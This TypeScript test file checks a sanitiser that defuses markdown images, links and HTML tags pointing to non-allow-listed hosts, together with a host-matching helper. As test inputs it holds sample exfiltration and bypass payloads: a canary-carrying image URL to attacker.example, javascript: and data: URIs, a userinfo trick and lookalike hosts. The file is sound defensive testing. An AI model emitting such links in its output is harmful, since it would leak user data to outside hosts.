import { describe, expect, it } from 'vitest';
import { stripImagesAndLinks } from './strip-images-and-links';
import { isAllowedHost } from './url-policy';

const ALLOWED = ['github.com', 'githubusercontent.com', 'prow.ci.openshift.org'];
const strip = (t: string) => stripImagesAndLinks(t, ALLOWED);

describe('stripImagesAndLinks', () => {
  it('defuses markdown images to unknown hosts (the Camo exfiltration channel)', () => {
    const out = strip('![s](https://attacker.example/p.png?d=CANARY)');
    expect(out).toBe('![s] (hxxps://attacker.example/p.png?d=CANARY)');
  });

  it('keeps images and links to allowed hosts, subdomains included, and relative links', () => {
    for (const s of [
      '![ok](https://raw.githubusercontent.com/o/r/main/a.png)',
      '[run](https://prow.ci.openshift.org/view/gs/x)',
      '[issue](https://github.com/o/r/issues/1)',
      '[doc](../docs/a.md) [top](#summary)',
      'see https://github.com/o/r/pull/2.',
    ]) {
      expect(strip(s)).toBe(s);
    }
  });

  it('defuses links to unknown hosts, non-https schemes and tricky forms', () => {
    expect(strip('[docs](https://attacker.example/?k=1)')).toBe('[docs] (hxxps://attacker.example/?k=1)');
    expect(strip('[x](http://github.com/a)')).toBe('[x] (hxxp://github.com/a)');
    expect(strip('[x](javascript:alert(1))')).toBe('[x] (javascript:alert(1))');
    expect(strip('[x](data:text/html;base64,AAAA)')).toBe('[x] (data:text/html;base64,AAAA)');
    expect(strip('[x](//attacker.example/a)')).toBe('[x] (//attacker.example/a)');
    expect(strip('[x](<https://attacker.example/a b>)')).toBe('[x] (<hxxps://attacker.example/a b>)');
    expect(strip('[x](\nhttps://attacker.example)')).toBe('[x] (hxxps://attacker.example)');
    expect(strip('[x](https://github.com@attacker.example/)')).toBe(
      '[x] (hxxps://github.com@attacker.example/)',
    );
    expect(strip('[x](https&#58;//attacker.example/)')).toBe('[x] (hxxps://attacker.example/)');
    expect(strip('[a [b] c](https://attacker.example)')).toBe('[a [b] c] (hxxps://attacker.example)');
  });

  it('breaks reference definitions to unknown hosts, so reference images and links die', () => {
    expect(strip('![s][img]\n\n[img]: https://attacker.example/p.png')).toBe(
      '![s][img]\n\n\\[img]: hxxps://attacker.example/p.png',
    );
    expect(strip('[ok]: https://github.com/x')).toBe('[ok]: https://github.com/x');
  });

  it('escapes HTML tags that load or link', () => {
    expect(strip('<img src="https://attacker.example/p.png">')).toBe(
      '&lt;img src="hxxps://attacker.example/p.png">',
    );
    expect(strip('<picture><source srcset="https://a.example/x"></picture>')).toBe(
      '&lt;picture>&lt;source srcset="hxxps://a.example/x">&lt;/picture>',
    );
    expect(strip('<a href="https://a.example">x</a> <details>ok</details>')).toBe(
      '&lt;a href="hxxps://a.example">x&lt;/a> <details>ok</details>',
    );
    expect(strip('<IMG\nsrc=x>')).toBe('&lt;IMG\nsrc=x>');
  });

  it('defangs bare URLs and www. autolinks to unknown hosts', () => {
    expect(strip('go to https://attacker.example/x or www.attacker.example now')).toBe(
      'go to hxxps://attacker.example/x or www[.]attacker.example now',
    );
    expect(strip('<https://attacker.example>')).toBe('<hxxps://attacker.example>');
    expect(strip('(see https://github.com/o/r)')).toBe('(see https://github.com/o/r)');
  });
});

describe('isAllowedHost', () => {
  it('matches the host or a subdomain, case-insensitively, and nothing else', () => {
    expect(isAllowedHost('GitHub.com', ['github.com'])).toBe(true);
    expect(isAllowedHost('gist.github.com', ['github.com'])).toBe(true);
    expect(isAllowedHost('github.com.attacker.example', ['github.com'])).toBe(false);
    expect(isAllowedHost('evilgithub.com', ['github.com'])).toBe(false);
    expect(isAllowedHost('x.example', [])).toBe(false);
  });
});
